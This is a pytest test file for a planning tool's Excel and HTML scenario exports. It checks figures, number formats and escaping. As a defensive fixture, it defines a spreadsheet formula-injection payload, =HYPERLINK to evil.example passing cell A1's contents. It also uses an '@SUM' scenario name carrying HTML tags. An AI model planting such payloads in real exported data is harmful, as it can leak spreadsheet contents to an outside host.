"""Scenario comparison exports (engine.scenarios.export): the Excel workbook opened with
openpyxl and checked cell by cell against the ScenarioResult numbers, never a formula
even for a product or scenario called '=HYPERLINK(...)'; the HTML one-pager escaped and
carrying the figures."""
from __future__ import annotations

import io
import re

import openpyxl
import pandas as pd
import pytest

from engine.scenarios import Assumptions, Scenario, Selection
from engine.scenarios import compute as C
from engine.scenarios.export import (INR_FMT, PCT_FMT, SHEETS, SUMMARY_HEADERS, UNITS_FMT,
                                     to_excel, to_html)
from engine.textfmt import indian_grouping, inr
from tests.test_scenarios import _planted_inputs

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture(scope="module")
def results():
    inputs = _planted_inputs()
    # a product name a spreadsheet would run as a formula
    inputs.base.loc[inputs.base["sku_id"] == "SN-1", "name"] = EVIL
    inputs.plan_inputs.lines.loc[inputs.plan_inputs.lines["sku_id"] == "SN-1", "name"] = EVIL
    cut = C.compute(inputs, Scenario("Oil cut -10%", Selection(),
                                     Assumptions(price_change_pct=-10,
                                                 mandi_price_shock_pct=20)))
    promo = C.compute(inputs, Scenario("@SUM(1+1) <b>promo</b>",
                                       Selection(categories=("Snacks",),
                                                 start="2026-06-02", end="2026-06-10"),
                                       Assumptions(promo=True, budget_inr=5000)))
    return [cut, promo]


@pytest.fixture(scope="module")
def book(results):
    return openpyxl.load_workbook(io.BytesIO(to_excel(results)))


def _header_row(ws, first: str) -> int:
    for row in range(1, ws.max_row + 1):
        if ws.cell(row, 1).value == first:
            return row
    raise AssertionError(f"no header row starting {first!r} in {ws.title}")


def _columns(ws, row: int) -> dict[str, int]:
    return {ws.cell(row, j).value: j for j in range(1, ws.max_column + 1)
            if ws.cell(row, j).value is not None}


def test_workbook_has_a_summary_and_one_sheet_per_step(book):
    assert book.sheetnames == list(SHEETS) == ["Summary", "Demand", "Pricing", "Reorder",
                                                "Sourcing"]


def test_summary_rows_match_every_step_of_every_scenario(book, results):
    ws = book["Summary"]
    assert ws["B2"].value == "planted" and ws["B3"].value == "r1"
    assert ws["B4"].number_format == "DD-MMM-YYYY"
    head = _header_row(ws, "Scenario")
    assert [ws.cell(head, j).value for j in range(1, 10)] == SUMMARY_HEADERS
    row = head + 1
    for res in results:
        for step in res.steps:
            cells = [ws.cell(row, j) for j in range(1, 10)]
            assert cells[0].value == ("'" + res.scenario.name
                                      if res.scenario.name.startswith("@")
                                      else res.scenario.name)
            assert cells[1].value == step["label"]
            for cell, key in zip(cells[3:8], ("baseline", "scenario", "delta", "delta_pct",
                                              "delta_inr")):
                if step[key] is None:
                    assert cell.value is None
                else:
                    assert cell.value == pytest.approx(step[key], abs=0.01 if key !=
                                                       "delta_pct" else 1e-4), (step, key)
            fmt = UNITS_FMT if step["unit"] == "units" else INR_FMT
            if step["baseline"] is not None:
                assert cells[3].number_format == fmt and cells[6].number_format == PCT_FMT
                assert cells[7].number_format == INR_FMT
            assert cells[8].value == step["reason"]
            row += 1
    # the assumptions block: a column per scenario beside the baseline
    top = _header_row(ws, "Setting")
    cols = _columns(ws, top)
    assert list(cols)[:3] == ["Setting", "Baseline", "Oil cut -10%"]
    labels = {ws.cell(r, 1).value: r for r in range(top + 1, ws.max_row + 1)}
    cut_col, promo_col = 3, 4
    assert ws.cell(labels["Price change (%)"], cut_col).value == -10
    assert ws.cell(labels["Price change (%)"], 2).value == 0
    assert ws.cell(labels["Mandi price shock (%)"], cut_col).value == 20
    assert ws.cell(labels["Purchase budget (₹)"], promo_col).value == 5000
    assert ws.cell(labels["Purchase budget (₹)"], cut_col).value == "No limit"
    assert ws.cell(labels["Promotion at the usual discount"], promo_col).value == "Yes"
    assert ws.cell(labels["Categories"], promo_col).value == "Snacks"
    assert ws.cell(labels["Service level"], 2).value == pytest.approx(0.95)
    start = ws.cell(labels["From"], promo_col)
    assert start.value.date() == pd.Timestamp("2026-06-02").date()
    assert start.number_format == "DD-MMM-YYYY"


def test_demand_sheet_per_period_baseline_scenario_and_bands(book, results):
    ws = book["Demand"]
    cols = _columns(ws, 1)
    assert ws.cell(1, 1).value == "Day"
    for res in results:
        name = res.scenario.name
        shown = "'" + name if name.startswith("@") else name
        periods = res.demand["periods"]
        for k, rec in enumerate(periods.itertuples(), start=2):
            assert ws.cell(k, 1).value == pd.Timestamp(rec.date).to_pydatetime()
            assert ws.cell(k, 1).number_format == "DD-MMM-YYYY"
            for col, value in ((f"{shown}: baseline demand (units)", rec.baseline),
                               (f"{shown}: baseline low (95%)", rec.lo),
                               (f"{shown}: baseline high (95%)", rec.hi),
                               (f"{shown}: scenario demand (units)", rec.scenario),
                               (f"{shown}: scenario low (95%)", rec.scenario_lo),
                               (f"{shown}: scenario high (95%)", rec.scenario_hi),
                               (f"{shown}: change (units)", rec.scenario - rec.baseline)):
                cell = ws.cell(k, cols[col])
                assert cell.value == pytest.approx(value, abs=0.01), (col, k)
                assert cell.number_format == UNITS_FMT
        total = _header_row(ws, "Total")
        assert ws.cell(total, cols[f"{shown}: scenario demand (units)"]).value == \
            pytest.approx(res.demand["totals"]["scenario_units"], abs=0.01)


def test_demand_sheet_shares_one_baseline_when_the_selections_match(results):
    inputs = _planted_inputs()
    a = C.compute(inputs, Scenario("A", Selection(), Assumptions(demand_shock_pct=10)))
    b = C.compute(inputs, Scenario("B", Selection(), Assumptions(demand_shock_pct=-10)))
    ws = openpyxl.load_workbook(io.BytesIO(to_excel([a, b])))["Demand"]
    heads = [c.value for c in ws[1]]
    assert heads[:4] == ["Day", "Baseline demand (units)", "Baseline low (95%)",
                         "Baseline high (95%)"]
    assert "A: scenario demand (units)" in heads and "B: change (units)" in heads
    assert not any("baseline" in h for h in heads[4:])


def test_pricing_reorder_and_sourcing_sheets_cell_by_cell(book, results):
    checks = {
        "Pricing": (lambda r: r.pricing["by_sku"], {
            "SKU": "sku_id", "Baseline units": "baseline_units",
            "Scenario units": "scenario_units",
            "Scenario selling price (₹)": "scenario_price",
            "Baseline revenue (₹)": "baseline_revenue",
            "Scenario margin (₹)": "scenario_margin",
            "Change in margin (₹)": "delta_margin"}),
        "Reorder": (lambda r: r.reorder["lines"], {
            "SKU": "sku_id", "PIN code": "pin_code", "Scenario urgency": "urgency",
            "Baseline urgency": "baseline_urgency",
            "Baseline order qty (units)": "baseline_order_qty",
            "Scenario order qty (units)": "order_qty",
            "Change in order qty (units)": "delta_order_qty",
            "Baseline order value (₹)": "baseline_order_value",
            "Scenario order value (₹)": "order_value",
            "Scenario stock-out date": "stockout_date"}),
        "Sourcing": (lambda r: r.sourcing["table"], {
            "Commodity": "commodity", "Scenario demand (qtl)": "scenario_demand_qtl",
            "Scenario order need (qtl)": "scenario_order_qtl", "Best mandi": "mandi",
            "Scenario landed cost (₹/qtl)": "scenario_landed",
            "Baseline buying cost (₹)": "baseline_cost",
            "Scenario buying cost (₹)": "scenario_cost"}),
    }
    for sheet, (frame_of, mapping) in checks.items():
        ws = book[sheet]
        cols = _columns(ws, 1)
        assert cols["Scenario"] == 1
        row = 2
        for res in results:
            frame = frame_of(res)
            if not len(frame):                 # one row that says why
                assert ws.cell(row, ws.max_column).value == res.sourcing["note"]
                row += 1
                continue
            for rec in frame.to_dict(orient="records"):
                for header, key in mapping.items():
                    cell, want = ws.cell(row, cols[header]), rec[key]
                    if isinstance(want, pd.Timestamp):
                        assert cell.value == want.to_pydatetime()
                        assert cell.number_format == "DD-MMM-YYYY"
                    elif isinstance(want, str):
                        assert cell.value in (want, "'" + want), (sheet, header)
                    else:
                        assert cell.value == pytest.approx(want, abs=0.01), (sheet, header)
                row += 1
        assert ws.cell(row, 1).value is None or sheet == "Sourcing"
    ws = book["Sourcing"]
    row = [c.value for c in ws[2]]
    assert "Mustard Oil" in row and "Bharatpur" in row
    assert ws.cell(2, _columns(ws, 1)["Scenario buying cost (₹)"]).number_format == INR_FMT


def test_no_cell_is_a_formula_even_for_formula_like_names(book):
    seen_evil = 0
    for ws in book:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not re.match(r"\s*[=+\-@]", cell.value), (ws.title, cell.value)
                    seen_evil += EVIL in cell.value
    assert seen_evil >= 3            # the product on Pricing and Reorder, kept as text
    # and in the file itself: no <f> (formula) element anywhere
    import zipfile

    raw = to_excel([C.compute(_planted_inputs(), Scenario(EVIL))])
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode()


def test_indian_number_formats_group_lakhs_and_crores():
    assert UNITS_FMT.startswith("[>=10000000]##\\,##\\,##\\,##0;[>=100000]##\\,##\\,##0")
    assert "₹" in INR_FMT


def test_html_one_pager_is_escaped_self_contained_and_has_the_figures(results):
    page = to_html(results)
    assert page.startswith("<!DOCTYPE html>")
    # no external resource: no link, script, src= or url(
    assert not re.search(r"<link|<script|src=|url\(|@import", page, re.I)
    # user text escaped
    assert "<b>promo</b>" not in page and "&lt;b&gt;promo&lt;/b&gt;" in page
    assert EVIL not in page and html_escape(EVIL) in page
    # the chain of each scenario with its figures
    for res in results:
        for step in res.steps:
            assert step["label"] in page
            if step["baseline"] is not None:
                shown = (f"{indian_grouping(step['baseline'])} units" if step["unit"] == "units"
                         else inr(step["baseline"]))
                assert html_escape(shown) in page, step
    cut = results[0]
    d = next(s for s in cut.steps if s["step"] == "pricing")
    assert html_escape(inr(d["delta"])) in page
    assert "Price change: -10%" in page and "Mandi price shock: +20%" in page
    assert "Purchase budget: ₹5,000" in page
    assert "Data version planted" in page and "forecast run r1" in page
    assert "Bharatpur" in page and "Mustard Oil" in page
    assert "Demand &rarr; Margin &rarr; Orders &rarr; Mandi buying" in page


def html_escape(text: str) -> str:
    import html

    return html.escape(text, quote=True)
